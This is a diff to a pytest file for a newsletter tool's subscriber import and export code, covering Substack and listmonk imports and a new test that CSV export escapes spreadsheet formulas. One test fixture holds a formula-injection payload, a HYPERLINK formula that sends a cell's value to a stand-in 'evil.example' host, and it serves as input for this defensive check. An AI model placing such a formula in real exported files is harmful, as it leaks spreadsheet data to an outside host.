@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -12,6 +14,7 @@ from digest.state.subscribers import ImportRecord, SubscriberStore
 FIXTURES = Path(__file__).parent.parent / "fixtures" / "subscribers"
 MAILCHIMP = ("subscribed_members_export_3f2a1b.csv", "unsubscribed_members_export_3f2a1b.csv",
              "cleaned_members_export_3f2a1b.csv")
+SUBSTACK = "email_list.example-weekly.csv"  # the name Substack's data export gives it
 T0 = 1_750_000_000.0
 
 
@@ -47,13 +50,16 @@ def test_a_mailchimp_export_lands_subscribed_unsubscribed_and_cleaned(tmp_path: 
 
 
 def test_a_substack_export_lands_the_right_states(tmp_path: Path) -> None:
-    """Substack: free and paid readers confirmed, email_disabled unsubscribed, a broken address named by line."""
+    """Substack's email_list.*.csv: free and paid readers confirmed, email_disabled unsubscribed (the one
+    row whose state is not "confirmed": an if/else giving "confirmed" both ways fails here), a deleted
+    reader's placeholder skipped, a broken address named by line."""
     with store_at(tmp_path) as store:
-        problems, _ = imported(store, "substack_subscribers_2024-06-01.csv")
+        problems, report = imported(store, SUBSTACK)
         assert states(store) == {"grace@example.org": "confirmed", "heidi@example.com": "confirmed",
                                  "ivan@example.net": "unsubscribed"}
         assert store.get("grace@example.org").created_at == "2023-09-12T08:30:00Z"  # type: ignore[union-attr]
-    assert len(problems) == 1 and problems[0].startswith(f"{FIXTURES}/substack_subscribers_2024-06-01.csv:5: ")
+        assert [a for a, _ in report.skipped] == ["x7k2q9@deletion-request.substack.com"]  # type: ignore[attr-defined]
+    assert len(problems) == 1 and problems[0].startswith(f"{FIXTURES / SUBSTACK}:5: ")
 
 
 def test_buttondown_and_listmonk_exports_land_the_right_states(tmp_path: Path) -> None:
@@ -65,6 +71,9 @@ def test_buttondown_and_listmonk_exports_land_the_right_states(tmp_path: Path) -
         assert states(store) == {"kim@example.org": "confirmed", "lou@example.org": "pending",
                                  "mia@example.org": "unsubscribed", "oli@example.org": "confirmed",
                                  "pat@example.org": "unsubscribed"}
+        # listmonk writes its times as Go does ("… 09:00:00.123456789 +0000 UTC"), any zone.
+        created = {key: store.get(key).created_at for key in ("oli@example.org", "pat@example.org")}  # type: ignore[union-attr]
+        assert created == {"oli@example.org": "2023-10-01T09:00:00Z", "pat@example.org": "2023-10-02T13:00:00Z"}
 
 
 @pytest.mark.parametrize("left", ["unsubscribed", "bounced", "complained"])
@@ -153,3 +162,32 @@ def test_a_mailchimp_file_whose_columns_and_name_say_nothing_takes_the_status_hi
     assert [r.state for r in parse_export(path, "mailchimp")[0]] == ["confirmed"]
     assert [r.state for r in parse_export(path, "mailchimp", status="cleaned")[0]] == ["bounced"]
     assert [r.state for r in parse_export(path, "mailchimp", status="unsubscribed")[0]] == ["unsubscribed"]
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1 555 0100", "-2+3", "@SUM(A1:A9)",
+            "'=already quoted", "''=two quotes", "'plain", "O'Neil"]
+
+
+def test_csv_export_guards_formulas_and_the_import_takes_the_guard_off(tmp_path: Path) -> None:
+    """No exported cell starts with =, +, -, @, a tab or a CR (a spreadsheet would run it); each such cell,
+    names and addresses alike, gets a leading ', and importing the file gives back exactly what was there."""
+    with store_at(tmp_path, "a.sqlite") as store:
+        for i, name in enumerate(FORMULAS):
+            store.add(f"reader{i}@example.org", name=name)
+        store.add("=cmd@example.org", name="-minus", topics=("-odd",))
+        store.add("none@example.org", topics=())
+        original = store.all()
+        text = export_text(original, "csv")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK" in text and "'=cmd@example.org" in text and "'-" in text
+    path = tmp_path / "export.csv"
+    path.write_text(text, encoding="utf-8")
+    records, problems = parse_export(path, "csv")
+    assert problems == []
+    with store_at(tmp_path, "b.sqlite") as again:
+        again.import_records(records)
+        fields = ("address", "name", "state", "topics")
+        assert [[getattr(s, f) for f in fields] for s in again.all()] == \
+            [[getattr(s, f) for f in fields] for s in original]
+        assert export_text(again.all(), "csv") == text
